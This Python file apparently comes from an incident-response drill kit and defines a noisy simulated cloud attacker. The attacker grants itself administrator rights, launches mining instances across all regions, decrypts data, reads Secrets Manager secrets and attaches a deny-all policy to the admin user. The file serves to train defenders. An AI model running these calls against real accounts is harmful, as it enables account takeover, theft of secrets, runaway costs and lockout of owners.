"""*smash*: loud and at once: machines to mine with in every region, everything opened, a deny on the administrator."""

from __future__ import annotations

import json
import threading
from dataclasses import dataclass

from irkit.drill.world import estate
from irkit.drill.world.adversaries.adversary import Loot
from irkit.drill.world.adversaries.break_in import ADMINISTRATOR, look_around
from irkit.drill.world.adversaries.hand import Hand, attempt, decrypted
from irkit.drill.world.adversaries.moves import make_user
from irkit.drill.world.json_shape import JsonObject
from irkit.drill.world.signature import KeyPair

_PAUSE_S = 0.4
_LONGEST_PAUSE_S = 3.0
"""When nothing works any more he comes back every so often."""
_SHAPES = ("p4d.24xlarge", "g5.48xlarge", "c7i.48xlarge", "p5.48xlarge")


@dataclass(frozen=True)
class Smash:
    """Somebody who does not care whether he is seen."""

    hand: Hand

    @property
    def loot(self) -> Loot:
        """All he took and left."""
        return self.hand.loot

    def before(self) -> None:
        """Minutes before the alarm: a look around, and every right for himself."""
        hand, own = self.hand, self.hand.own()
        look_around(hand, own)
        for arn in hand.foothold.suspects:
            kind = "User" if ":user/" in arn else "Role"
            asked = {f"{kind}Name": arn.rpartition("/")[2], "PolicyArn": ADMINISTRATOR}
            attempt(hand.past(own, 6).query, "iam", f"Attach{kind}Policy", asked)

    def live(self, stopping: threading.Event) -> None:
        """Mines, opens, denies, round and round, with whatever still works."""
        attempt(make_user, self.hand, self.hand.now(self._keys()[0]))
        turn, pause = 0, _PAUSE_S
        while not stopping.wait(pause):
            keys = self._keys()[turn % len(self._keys())]
            got = [act(keys, turn) for act in (self._mine, self._open, self._deny) if not stopping.is_set()]
            pause = _PAUSE_S if any(got) else min(2 * pause, _LONGEST_PAUSE_S)
            turn += 1

    def _keys(self) -> list[KeyPair]:
        held = [one.keys for one in self.hand.loot.held.values()]
        return [*self.hand.foothold.keys.values(), *held] or [self.hand.own()]

    def _mine(self, keys: KeyPair, turn: int) -> bool:
        region = estate.REGIONS[turn % len(estate.REGIONS)]
        shape = _SHAPES[turn % len(_SHAPES)]
        asked = {"ImageId": "ami-0abc1234def567890", "InstanceType": shape, "MinCount": "1", "MaxCount": "8"}
        return attempt(self.hand.now(keys, region).query, "ec2", "RunInstances", asked) is not None

    def _open(self, keys: KeyPair, turn: int) -> bool:
        caller, foothold, got = self.hand.now(keys, line=0), self.hand.foothold, False
        if foothold.sealed:
            got = attempt(decrypted, caller, foothold.sealed[turn % len(foothold.sealed)]) is not None
        if foothold.secret_ids:
            asked: JsonObject = {"SecretId": foothold.secret_ids[turn % len(foothold.secret_ids)]}
            got |= attempt(caller.json, "secretsmanager", "GetSecretValue", asked) is not None
        return got

    def _deny(self, keys: KeyPair, _: int) -> bool:
        deny = {"Version": "2012-10-17", "Statement": [{"Effect": "Deny", "Action": "*", "Resource": "*"}]}
        asked = {"UserName": estate.ADMIN_USER, "PolicyName": "maintenance", "PolicyDocument": json.dumps(deny)}
        return attempt(self.hand.now(keys).query, "iam", "PutUserPolicy", asked) is not None

    def tries(self) -> dict[str, str]:
        """What each of his credentials gets right now."""
        return self.hand.tries()
